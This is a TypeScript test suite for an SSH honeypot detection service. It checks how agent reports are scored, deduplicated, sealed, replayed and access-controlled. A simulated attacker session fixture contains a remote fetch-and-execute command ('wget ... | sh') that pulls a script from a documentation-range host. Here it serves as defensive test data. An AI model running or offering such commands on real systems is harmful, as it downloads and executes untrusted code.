import { gzipSync } from 'node:zlib';
import { LIMITS } from '@sundew/wire/limits';
import { afterAll, describe, expect, it } from 'vitest';
import { type Call, startRunningService } from '../../parts/service/running-service.ts';

const service = await startRunningService();
afterAll(() => service.stop());
const values = await service.bootstrap({ email: 'owner@agents.example' });
const owner = service.as(values.user_token);
const base = `/api/organizations/${values.organization_id}`;

const at = Date.now() - 60_000;
const auth = (over: object = {}) => ({
  ...{ type: 'ssh_auth', timestamp: new Date(at).toISOString(), source_ip: '198.51.100.7', source_port: 50_022 },
  ...{ destination_port: 2222, username: 'root', password: 'Tr0ub4dor', client_version: 'SSH-2.0-Go', success: false },
  ...over,
});
const CAST = '{"version":2,"width":80,"height":24}\n[0.1,"o","# "]\n';
const session = {
  ...{ type: 'ssh_session', timestamp: at, source_ip: '198.51.100.7', username: 'root', session_duration: 4.5 },
  ...{ client_version: 'SSH-2.0-Go', commands: ['uname -a', 'wget http://192.0.2.9/x.sh -O- | sh'] },
  ...{ downloads: ['http://192.0.2.9/x.sh'], recording: gzipSync(CAST).toString('base64') },
};
const pubkey = {
  ...{ type: 'ssh_pubkey', timestamp: at, source_ip: '198.51.100.7', username: 'git', client_version: 'SSH-2.0-Go' },
  metadata: { key_type: 'ssh-ed25519', key_fingerprint: `SHA256:${'A'.repeat(43)}` },
};

async function newAgent(name: string): Promise<{ id: string; call: Call }> {
  const { status, body, text } = await owner('POST', `${base}/agents`, { name });
  expect(status, text).toBe(201);
  expect(body.data.agent_key).toMatch(/^wd_[0-9A-Za-z]{32,}$/);
  return { id: body.data.id, call: service.as(body.data.agent_key) };
}

const agentOf = async (id: string) => (await owner('GET', `${base}/agents/${id}`)).body.data;
const send = (call: Call, batchId: string, detections: unknown[]) =>
  call('POST', '/api/v1/agent/detections', {
    agent: { version: '0.1.0', hostname: 'rack' },
    batch_id: batchId,
    detections,
  });
const stored = async (sensor: string) =>
  (await owner('GET', `${base}/detections?source=ssh_agent&page_size=200`)).body.data.filter(
    (each: { sensor: string }) => each.sensor === sensor,
  );

describe('what an agent reports', () => {
  it('becomes detections that are scored as touches of a honeypot', async () => {
    const { id, call } = await newAgent('office');
    const answer = await send(call, 'first', [auth(), pubkey, session]);
    expect([answer.status, answer.body]).toEqual([202, { accepted: 3, duplicates: 0, rejected: [] }]);
    const list = await stored('office');
    expect(list).toHaveLength(3);
    for (const detection of list) {
      expect(detection).toMatchObject({ ip_address: '198.51.100.7', user_agent: 'Go', trust: 'sensor' });
      expect(detection.bot_score).toBeGreaterThanOrEqual(32);
      expect(detection.decision.reasons[0].code).toBe('decoy_touched');
    }
    expect(Math.max(...list.map((each: { bot_score: number }) => each.bot_score))).toBeGreaterThanOrEqual(60);
    expect(await agentOf(id)).toMatchObject({ state: 'online', version: '0.1.0', hostname: 'rack' });
  });

  it('is refused, and stays with the agent, where its settings name another property than its key', async () => {
    const { call } = await newAgent('elsewhere');
    const [one, other] = [
      values.property_id,
      (await owner('POST', `${base}/properties`, { name: 'Lab' })).body.data.id,
    ];
    const tell = async (property: unknown) => [
      await call('POST', '/api/v1/agent/heartbeat', { agent: { property_id: property } }),
      await call('POST', '/api/v1/agent/detections', {
        ...{ agent: { property_id: property }, batch_id: 'elsewhere', detections: [auth()] },
      }),
    ];
    for (const { status, body } of await tell(other)) {
      expect([status, body.code, body.reason]).toEqual([403, 'property_mismatch', 'agent_property_differs']);
      expect(body.error).toContain(one);
    }
    expect(await stored('elsewhere')).toEqual([]);
    for (const same of [one, one.toUpperCase(), '', null]) {
      expect((await tell(same)).map(({ status }) => status)).toEqual([200, 202]);
    }
    expect(await stored('elsewhere')).toHaveLength(1);
  });

  it('is told with the detection to whoever may read it, all but the password', async () => {
    const { call } = await newAgent('told');
    await send(call, 'told', [auth(), pubkey, session]);
    const reader = service.as(values.api_key);
    const full = await Promise.all(
      (await stored('told')).map(
        async ({ id }: { id: string }) => (await reader('GET', `${base}/detections/${id}`)).body,
      ),
    );
    const told = new Map(full.map(({ data }) => [data.ssh.type, data.ssh]));
    const nothing = { source_port: null, destination_port: null, success: null, key_type: null, key_fingerprint: null };
    const rest = { ...nothing, client_version: 'SSH-2.0-Go', session_duration: null, commands: [] };
    const asSent = { source_port: 50_022, destination_port: 2222, username: 'root', success: false };
    expect(told.get('ssh_auth')).toEqual({ ...rest, type: 'ssh_auth', ...asSent });
    expect(told.get('ssh_pubkey')).toEqual({ ...rest, type: 'ssh_pubkey', username: 'git', ...pubkey.metadata });
    const { commands, session_duration } = session;
    expect(told.get('ssh_session')).toEqual({
      ...rest,
      type: 'ssh_session',
      username: 'root',
      commands,
      session_duration,
    });
    expect(JSON.stringify(full)).not.toMatch(/Tr0ub4dor|sealed/);
  });

  it('is shown under the name that the agent has of its own settings, until it is renamed', async () => {
    const { id, call } = await newAgent('unnamed');
    const beat = (name: string) => call('POST', '/api/v1/agent/heartbeat', { agent: { name } });
    await beat('rack 7');
    expect(await agentOf(id)).toMatchObject({ name: 'rack 7' });
    await send(call, 'named', [auth()]);
    expect(await stored('rack 7')).toHaveLength(1);
    await owner('PATCH', `${base}/agents/${id}`, { name: 'cellar' });
    await beat('rack 7');
    expect(await agentOf(id)).toMatchObject({ name: 'cellar' });
    const other = await newAgent('kept');
    await other.call('POST', '/api/v1/agent/heartbeat', { agent: { name: ' \n' } });
    expect(await agentOf(other.id)).toMatchObject({ name: 'kept' });
  });

  it('counts once, however often a batch is sent', async () => {
    const { call } = await newAgent('twice');
    await send(call, 'same', [auth(), pubkey]);
    const again = await Promise.all([1, 2, 3].map(() => send(call, 'same', [auth(), pubkey])));
    for (const { body } of again) expect(body).toEqual({ accepted: 0, duplicates: 2, rejected: [] });
    expect(await stored('twice')).toHaveLength(2);
  });

  it('is completed where storing the batch broke off', async () => {
    const { call } = await newAgent('broken-off');
    await send(call, 'half', [auth(), pubkey]);
    await service.database.query(
      `UPDATE agent_batches SET done_at = NULL, taken_until = now() - interval '1 s' WHERE batch_id = 'half'`,
    );
    const answer = await send(call, 'half', [auth(), pubkey, session]);
    expect(answer.body).toEqual({ accepted: 1, duplicates: 2, rejected: [] });
    expect(await stored('broken-off')).toHaveLength(3);
  });

  it('is stored though it was taken until a day that only a wrong clock knew', async () => {
    const { call } = await newAgent('ahead');
    await send(call, 'ahead', [auth()]);
    await service.database.query(
      `UPDATE agent_batches SET done_at = NULL, taken_until = now() + interval '30 days' WHERE batch_id = 'ahead'`,
    );
    expect((await send(call, 'ahead', [auth(), pubkey])).body).toEqual({ accepted: 1, duplicates: 1, rejected: [] });
  });

  it('is refused record by record', async () => {
    const { call } = await newAgent('bad');
    const bad = [auth(), { type: 'ssh_other' }, auth({ source_ip: 'nobody' }), auth({ timestamp: 'soon' }), 7];
    const { status, body } = await send(call, 'bad', bad);
    expect([status, body.accepted]).toEqual([202, 1]);
    expect(body.rejected.map(({ index }: { index: number }) => index)).toEqual([1, 2, 3, 4]);
    expect(body.rejected[0].error).toContain('ssh_auth, ssh_pubkey, ssh_session');
    expect((await send(call, '', [])).status).toBe(400);
    expect((await send(call, 'list', {} as never)).body.code).toBe('validation_failed');
  });

  it('is test traffic where the client says so', async () => {
    const { call } = await newAgent('tested');
    await send(call, 'test', [auth({ client_version: 'SSH-2.0-Service-Test/1.0' })]);
    expect(await stored('tested')).toMatchObject([{ is_test: true }]);
  });
});

describe('what was typed', () => {
  it('is stored sealed, and shown to analysts who are written down', async () => {
    const { call } = await newAgent('secret');
    await send(call, 'secret', [auth({ password: 'correct horse' })]);
    const [{ id }] = await stored('secret');
    const rows = await service.database.query<{ row: string }>('SELECT detections::text AS row FROM detections');
    expect(rows.map(({ row }) => row).join()).not.toContain('correct horse');
    expect((await owner('GET', `${base}/detections/${id}`)).text).not.toContain('correct horse');
    expect((await service.as(values.api_key)('GET', `${base}/ssh-sessions/${id}/typed-password`)).status).toBe(403);
    const shown = await owner('GET', `${base}/ssh-sessions/${id}/typed-password`);
    expect(shown.body.data).toEqual({ username: 'root', password: 'correct horse', success: false });
    const log = await owner('GET', `${base}/audit-log`);
    expect(log.body.data[0].action).toBe('ssh_password.show');
    expect(JSON.stringify(log.body.data[0])).toContain(id);
  });

  it('can be replayed, with what it did by the words of MITRE ATT&CK', async () => {
    const { call } = await newAgent('replay');
    await send(call, 'replay', [session]);
    const { body } = await owner('GET', `${base}/ssh-sessions`);
    const listed = body.data.find((each: { agent: string }) => each.agent === 'replay');
    expect(listed).toMatchObject({ command_count: 2, has_recording: true, duration_seconds: 4.5 });
    const one = await owner('GET', `${base}/ssh-sessions/${listed.id}`);
    expect(one.body.data.deeds.map((deed: { technique_id: string }) => deed.technique_id)).toContain('T1105');
    const replay = await owner('GET', `${base}/ssh-sessions/${listed.id}/recording`);
    expect(replay.body.data).toEqual({ format: 'asciicast-v2', recording: CAST });
  });

  it.each([
    ['cut-off', gzipSync(CAST).subarray(0, 20)],
    ['endless', gzipSync(Buffer.alloc(64 * LIMITS.sshRecordingBytes + 1))],
  ])('has no replay where the recording is damaged or too large: %s', async (how, packed) => {
    const { call } = await newAgent(how);
    await send(call, how, [{ ...session, recording: packed.toString('base64') }]);
    const { body } = await owner('GET', `${base}/ssh-sessions`);
    const listed = body.data.find((each: { agent: string }) => each.agent === how);
    const replay = await owner('GET', `${base}/ssh-sessions/${listed.id}/recording`);
    expect([replay.status, replay.body.reason]).toEqual([404, 'no_such_recording']);
  });
});

describe('agents', () => {
  it('say that they are alive, and learn what the service sets for them', async () => {
    const { id, call } = await newAgent('beating');
    expect(await agentOf(id)).toMatchObject({ state: 'waiting', last_seen: null });
    const config = { accept_after: 2 };
    expect((await owner('PATCH', `${base}/agents/${id}`, { name: 'renamed', config })).status).toBe(200);
    const beat = {
      uptime_seconds: 12.5,
      sessions_active: 1,
      sessions_total: 9,
      queue_depth: 3,
      dropped: 2,
      os: 'linux',
    };
    const { status, body } = await call('POST', '/api/v1/agent/heartbeat', { ...beat, presented: ['hunter2'] });
    expect([status, body]).toEqual([200, { ok: true, server_time: expect.any(String), config, canaries: [false] }]);
    expect(await agentOf(id)).toMatchObject({ name: 'renamed', state: 'online', ...beat });
  });

  it('fail at once when they are revoked; what they reported stays', async () => {
    const { id, call } = await newAgent('revoked');
    await send(call, 'before', [auth()]);
    expect((await owner('DELETE', `${base}/agents/${id}`)).body.data.state).toBe('revoked');
    const { status, body } = await send(call, 'after', [auth()]);
    expect([status, body.code]).toEqual([401, 'key_revoked']);
    expect(await stored('revoked')).toHaveLength(1);
  });

  it('have keys that open nothing else, and no other key opens what is theirs', async () => {
    const { call } = await newAgent('apart');
    expect((await call('POST', '/api/v1/detect', {})).status).toBe(403);
    expect((await call('GET', `${base}/detections`)).status).toBe(403);
    expect((await send(service.as(values.api_key), 'key', [])).status).toBe(403);
    expect((await send(service.as(values.sensor_key), 'sensor', [])).status).toBe(403);
  });

  it('work out of the box with the key that bootstrap prints', async () => {
    const { agent_key: key } = values;
    expect((await service.as(key)('POST', '/api/v1/agent/heartbeat', {})).body.ok).toBe(true);
  });
});
